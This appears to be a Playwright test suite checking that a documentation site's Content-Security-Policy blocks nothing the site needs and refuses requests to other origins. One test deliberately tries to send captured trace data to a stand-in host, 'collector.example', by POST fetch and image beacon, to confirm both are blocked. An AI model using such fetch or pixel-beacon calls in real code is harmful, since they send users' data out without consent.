import { join } from 'node:path';
import { expect, test, type Page } from '@playwright/test';
import { analyzePaths, CAPTURE_FIXTURES, open } from './capture-support';
import { readBuiltPages } from './guide-site';
import { waitForIslands } from './support';

// The built pages carry a Content-Security-Policy (src/integrations/content-security-policy.ts).
// These tests check both halves of it in the browser: nothing the site itself needs is blocked,
// and a request to another origin is refused before it reaches the network.

interface Violation {
  directive: string;
  blocked: string;
}

/** Collects the page's CSP violations from before its first script runs. */
async function watchViolations(page: Page): Promise<() => Promise<Violation[]>> {
  await page.addInitScript(() => {
    const seen: Array<{ directive: string; blocked: string }> = [];
    (window as unknown as { cspViolations: typeof seen }).cspViolations = seen;
    document.addEventListener('securitypolicyviolation', (event) => seen.push({ directive: event.effectiveDirective, blocked: event.blockedURI }));
  });
  return () => page.evaluate(() => (window as unknown as { cspViolations: Violation[] }).cspViolations);
}

const PAGE_PATHS = readBuiltPages()
  .map((page) => page.path)
  .sort();

test('every page declares a policy and breaks none of its own scripts, styles or search under it', async ({ page }) => {
  test.setTimeout(20_000 + PAGE_PATHS.length * 5_000);
  expect(PAGE_PATHS.length).toBeGreaterThan(8);
  const violations = await watchViolations(page);
  const problems: string[] = [];
  for (const path of PAGE_PATHS) {
    await page.goto(path);
    // Starlight loads Pagefind when the browser is idle: wait, so its scripts are judged too.
    await page.waitForLoadState('networkidle');
    const policy = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
    if (policy === null || !policy.includes("connect-src 'self'")) problems.push(`${path}: no policy holding connections to the site`);
    for (const violation of await violations()) problems.push(`${path}: ${violation.directive} blocked ${violation.blocked}`);
  }
  expect(problems).toEqual([]);
});

test('search still works under the policy (its index runs as WebAssembly)', async ({ page }) => {
  const violations = await watchViolations(page);
  await page.goto('/');
  await page.locator('button[data-open-modal]').click();
  await page.locator('#starlight__search input').fill('8060');
  await expect(page.locator('#starlight__search .pagefind-ui__result').first()).toBeVisible({ timeout: 15_000 });
  expect(await violations()).toEqual([]);
});

test('an analysed trace stays on the page: the policy refuses requests to any other origin', async ({ page }) => {
  const violations = await watchViolations(page);
  await open(page);
  await analyzePaths(page, [join(CAPTURE_FIXTURES, 'middlebox-reset', 'middlebox-reset.pcap')]);
  expect(await violations()).toEqual([]);

  const outcome = await page.evaluate(async () => {
    const fetched = await fetch('https://collector.example/upload', { method: 'POST', body: 'trace' }).then(
      () => 'sent',
      () => 'refused',
    );
    const imageLoaded = await new Promise<string>((resolve) => {
      const image = new Image();
      image.onload = () => resolve('loaded');
      image.onerror = () => resolve('refused');
      image.src = 'https://collector.example/pixel.png?trace';
    });
    return { fetched, imageLoaded };
  });
  expect(outcome).toEqual({ fetched: 'refused', imageLoaded: 'refused' });
  const refused = await violations();
  expect(refused.map((violation) => violation.directive).sort()).toEqual(['connect-src', 'img-src']);
  expect(refused.every((violation) => violation.blocked.startsWith('https://collector.example/'))).toBe(true);
});

test('the log analyzer works under the policy', async ({ page }) => {
  const violations = await watchViolations(page);
  await page.goto('/start/triage/');
  await waitForIslands(page);
  await page.getByLabel('Paste an error message or a log').fill('System.Net.Sockets.SocketException (10061): No connection could be made because the target machine actively refused it 10.0.0.5:8060');
  await page.getByRole('button', { name: 'Analyze' }).click();
  await expect(page.locator('.log-values').getByText('10.0.0.5', { exact: true })).toBeVisible();
  expect(await violations()).toEqual([]);
});
